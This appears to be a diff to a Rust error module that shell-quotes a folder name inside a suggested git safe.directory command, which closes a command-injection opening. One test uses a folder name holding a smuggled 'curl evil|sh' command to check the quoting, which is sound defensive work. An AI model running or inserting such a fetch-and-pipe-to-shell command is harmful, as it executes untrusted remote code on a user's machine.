@@ -1,7 +1,7 @@
 //! Why a repository does not answer, each in one line that says what to do.
 
 use std::io;
-use std::path::PathBuf;
+use std::path::{Path, PathBuf};
 
 /// The bounds of a copy that its errors name: how deep folders lie, bytes of a path, and of all files.
 pub(crate) const MAX_DEPTH: usize = 100;
@@ -56,11 +56,8 @@ pub enum RepoError {
     Folder { folder: PathBuf, reason: String },
     #[error("cannot read the repository: {0}")]
     Git(String),
-    #[error(
-        "{0} belongs to another user, who may have put commands and settings into it: if you trust it, run `git config --global --add \
-         safe.directory {0}`"
-    )]
-    Owner(String),
+    #[error("{}", of_another(.0))]
+    Owner(PathBuf),
     #[error(transparent)]
     System(#[from] io::Error),
 }
@@ -70,11 +67,23 @@ impl From<git2::Error> for RepoError {
         match error.code() {
             // libgit2 names it: repository path '/a/b/' is not owned by current user
             git2::ErrorCode::Owner => {
-                let folder = error.message().split('\'').nth(1).unwrap_or("the repository");
-                RepoError::Owner(folder.trim_end_matches('/').to_owned())
+                let quoted = error.message().split_once('\'').and_then(|(_, rest)| rest.rsplit_once('\''));
+                RepoError::Owner(quoted.map(|(folder, _)| folder.trim_end_matches('/').into()).unwrap_or_default())
             }
             _ => RepoError::Git(error.message().to_owned()),
         }
+    }
+}
+
+/// What to do with a repository of another user, who chose its name, too.
+fn of_another(folder: &Path) -> String {
+    let what = "belongs to another user, who may have put commands and settings into it";
+    let name = folder.display().to_string();
+    match shlex::try_quote(&name) {
+        Ok(quoted) if !name.is_empty() => {
+            format!("{name} {what}: if you trust it, run `git config --global --add safe.directory {quoted}`")
+        }
+        _ => format!("the repository {what}: if you trust it, add its folder to safe.directory in git's configuration"),
     }
 }
 
@@ -98,5 +107,17 @@ mod tests {
     fn how_far_commits_go_back_is_told() {
         assert_eq!(ancestors("v1", 0, false), "no commit is before v1");
         assert!(ancestors("v1", 1, true).ends_with("v1~1; `git fetch --unshallow` gets those that this clone lacks"));
+    }
+
+    #[test]
+    fn a_command_for_the_user_has_the_name_of_a_folder_as_one_word() {
+        let told = |message: &str| {
+            let error = git2::Error::new(git2::ErrorCode::Owner, git2::ErrorClass::Config, message);
+            RepoError::from(error).to_string()
+        };
+        let named = |folder: &str| told(&format!("repository path '{folder}/' is not owned by current user"));
+        assert!(named("/tmp/x;curl evil|sh").ends_with("safe.directory '/tmp/x;curl evil|sh'`"));
+        assert!(named("/home/o'brien/a").ends_with("safe.directory \"/home/o'brien/a\"`"));
+        assert!(told("no path").starts_with("the repository belongs to another user"));
     }
 }
